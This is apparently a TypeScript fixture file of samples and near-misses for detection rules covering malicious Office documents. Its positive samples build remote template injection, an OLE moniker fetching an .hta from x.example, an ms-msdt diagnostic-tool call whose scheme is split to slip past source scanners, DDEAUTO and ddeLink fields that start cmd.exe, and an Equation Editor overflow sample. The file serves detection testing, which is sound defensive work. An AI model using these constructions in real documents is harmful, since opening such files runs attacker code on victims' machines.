import type { RuleSample } from './rule-sample.ts';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const makeRelationship = (type: string, target: string): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const makeField = (words: string): string =>
  `<w:document><w:r><w:instrText xml:space="preserve"> ${words} </w:instrText></w:r></w:document>`;
const makeEquation = (fontName: string): Buffer =>
  Buffer.concat([
    Buffer.from('1c00000002009ec4', 'hex'),
    Buffer.alloc(20),
    Buffer.from('030101030a0a01085a5a', 'hex'),
    Buffer.from(fontName),
    Buffer.alloc(20),
  ]);
const MONIKER = Buffer.concat([
  Buffer.from('0100000200000000', 'hex'),
  Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex'),
  Buffer.from([44, 0, 0, 0]),
  Buffer.from('http://x.example/a.hta\0', 'utf16le'),
]);
// Put together here so that scanners of source code leave this file alone.
const TOOL = ['ms-', 'msdt:'].join('');

export const DOCUMENT_LINK_SAMPLES: readonly RuleSample[] = [
  [
    'Office_Loads_Template_From_Web',
    'settings.xml.rels',
    () => makeRelationship('attachedTemplate', 'http://x.example/a.dotm'),
  ],
  [
    'Office_Loads_Template_From_Web',
    'settings.xml.rels',
    () =>
      makeRelationship('attachedTemplate', 'https://x.example/a.dotm').replace(
        /(Type="[^"]*") (Target="[^"]*")/,
        '$2 $1',
      ),
  ],
  ['Office_Loads_Template_From_Web', 'a.rtf', () => '{\\rtf1{\\*\\template http://x.example/a.dotm}}'],
  [
    'Office_Runs_Object_From_Web',
    'document.xml.rels',
    () => makeRelationship('oleObject', 'https://x.example/a'),
  ],
  ['Office_Runs_Object_From_Web', '[1]Ole', () => MONIKER],
  [
    'Office_Calls_Diagnostic_Tool',
    'document.xml.rels',
    () => makeRelationship('oleObject', 'mhtml:https://x.example/a.html!x-usc:https://x.example/a.html'),
  ],
  [
    'Office_Calls_Diagnostic_Tool',
    'a.html',
    () => `<script>location.href = "${TOOL}/id PCWDiagnostic /param IT_BrowseForFile=x";</script>`,
  ],
  [
    'Office_Field_Starts_Program',
    'document.xml',
    () => makeField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
  ],
  [
    'Office_Field_Starts_Program',
    'externalLink1.xml',
    () => '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
  ],
  ['Equation_Editor_Exploit', 'Equation Native', () => makeEquation('cmd /c calc.exe'.padEnd(60, 'A'))],
];

export const DOCUMENT_LINK_NEAR_MISSES: readonly RuleSample[] = [
  [
    'a template on a drive',
    'settings.xml.rels',
    () => makeRelationship('attachedTemplate', 'file:///C:\\Templates\\a.dotx'),
  ],
  [
    'a template on the SharePoint of a company',
    'settings.xml.rels',
    () => makeRelationship('attachedTemplate', 'https://company.sharepoint.com/a.dotx'),
  ],
  [
    'a link to the web',
    'document.xml.rels',
    () => makeRelationship('hyperlink', 'https://x.example/attachedTemplate'),
  ],
  ['a linked picture', 'document.xml.rels', () => makeRelationship('image', 'https://x.example/a.png')],
  ['an address in a workbook', 'Workbook', () => MONIKER],
  [
    'a field that talks to a sheet',
    'document.xml',
    () => makeField('DDEAUTO Excel.Sheet "C:\\\\a.xlsx" R1C1'),
  ],
  ['a text about a field', 'document.xml', () => '<w:document><w:t>DDEAUTO cmd.exe</w:t></w:document>'],
  ['a link to a sheet', 'externalLink1.xml', () => '<ddeLink ddeService="Excel" ddeTopic="a.xlsx"/>'],
  ['a formula', 'Equation Native', () => makeEquation('Times New Roman\0and what follows'.padEnd(60, '\0'))],
];
